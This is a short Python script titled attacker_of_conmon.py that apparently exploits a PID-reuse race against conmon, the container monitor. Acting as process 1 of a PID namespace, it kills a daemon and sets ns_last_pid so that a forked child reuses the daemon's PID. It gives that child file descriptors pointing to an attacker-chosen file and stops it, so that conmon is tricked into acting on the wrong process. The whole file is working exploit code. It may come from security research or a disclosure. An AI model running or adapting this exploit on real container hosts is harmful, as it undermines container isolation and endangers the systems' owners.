"""Process 1 of a PID namespace: kills a daemon, and has a process with FILE open get its process ID.

attacker_of_conmon.py FILE BUNDLE COMMAND...
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from pathlib import Path

file, bundle, command = sys.argv[1], Path(sys.argv[2]), sys.argv[3:]
killed = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
assert killed.stdout is not None
assert killed.stdout.readline()
killed.kill()
killed.wait()
opened = os.open(file, os.O_RDONLY)
Path("/proc/sys/kernel/ns_last_pid").write_text(str(killed.pid - 1))
attacker = os.fork()
if attacker == 0:
    for number in range(64):
        os.dup2(opened, number)
    os.kill(os.getpid(), signal.SIGSTOP)
assert attacker == killed.pid
os.waitpid(attacker, os.WUNTRACED)
log = os.open(bundle / "0.log", os.O_RDONLY)  # conmon waits for who reads it
while left := set(map(int, Path("/proc/self/task/1/children").read_text().split())) - {attacker}:
    os.waitpid(left.pop(), 0)
